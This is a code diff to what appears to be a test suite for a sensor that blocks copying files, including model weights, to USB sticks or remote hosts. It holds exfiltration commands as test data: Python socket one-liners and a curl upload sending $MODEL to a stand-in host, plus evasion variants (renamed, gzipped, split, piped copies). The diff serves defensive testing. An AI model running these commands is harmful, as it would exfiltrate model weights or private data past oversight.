@@ -11,6 +11,8 @@ SEND = ("/usr/bin/python3 -c 'import socket,sys; s=socket.create_connection((sys
         "s.sendall(open(sys.argv[2],\"rb\").read()); s.close()'")
 TRAIN = ("/usr/bin/python3 -c 'import socket,sys; w=open(sys.argv[2],\"rb\").read(); assert len(w) > 1<<20; "
          "s=socket.create_connection((sys.argv[1],9000)); [s.sendall(bytes(1024)) for _ in range(100)]; s.close()'")
+PIPED = ("/usr/bin/python3 -c 'import socket,sys; b=sys.stdin.buffer.read(); "
+         "s=socket.create_connection((sys.argv[1],9000)); s.sendall(b); s.close()'")
 UPLOAD = "curl -sS --max-time 60 --cacert $CA -T"
 
 
@@ -22,11 +24,16 @@ class Attempt:
     prepare: str = ":"
     names: int = 0         # empty names that stay on the stick when the command is refused
     missed: str = ""       # why the fallback sensor does not stop it; empty: it does
+    leftover: int = 0      # bytes that the refused command writes to a stick it had open before; none of the file's
     only: str = ""         # a sensor; with others it is left out
 
     def names_with(self, sensor):
         """The fallback holds an open after the kernel has made the name."""
         return 1 if sensor == "fallback" else self.names
+
+    def bytes_with(self, sensor):
+        """What a refusal may leave on a stick."""
+        return self.leftover if sensor == "fallback" else 0
 
     def expected_of(self, sensor):
         return "allow" if sensor == "fallback" and self.missed else "block"
@@ -39,9 +46,10 @@ WAYS = [
     Attempt("dd", "removable", "dd if={file} of=$STICK/dd.bin bs=256K status=none"),
     Attempt("rsync", "removable", "rsync {file} $STICK/",
             missed="one rsync reads, another writes, and it does not follow what passes between them"),
-    # The shell, which read nothing, makes the name before tar starts; not one byte follows.
+    # The shell, which read nothing, makes the name before tar starts; not one byte follows. The fallback cannot stop tar
+    # from writing, and so does not give it the file: tar ends an archive of nothing.
     Attempt("tar c > stick", "removable", "tar cf - -C $(dirname {file}) $(basename {file}) > $STICK/backup.tar",
-            names=1),
+            names=1, leftover=10240),
     Attempt("renamed copy", "removable", "cp $WORK/holiday.jpg $STICK/", "cp {file} $WORK/holiday.jpg"),
     Attempt("gzip'd copy", "removable", "cp $WORK/notes.gz $STICK/", "gzip -1 -c {file} > $WORK/notes.gz"),
     Attempt("split piece", "removable", "cp $WORK/part.ab $STICK/", "split -b 1M {file} $WORK/part."),
@@ -58,8 +66,7 @@ def with_file(way, file, **changes):
 INSIDER = [with_file(way, "$MODEL") for way in WAYS] + [
     Attempt("gzip'd copy, uploaded over TLS", "network", UPLOAD + " $WORK/notes.gz https://$STRANGER:9443/upload",
             "gzip -1 -c $MODEL > $WORK/notes.gz"),
-    Attempt("cat model | curl, over TLS", "network",
-            "cat $MODEL | " + UPLOAD + " - https://$STRANGER:9443/upload", only="fallback",
+    Attempt("cat model | Python socket upload", "network", "cat $MODEL | " + PIPED + " $STRANGER", only="fallback",
             missed="it does not follow what passes through a pipe"),
     Attempt("GGUF conversion made before registration", "removable", "cp $GGUF $STICK/"),
 ]
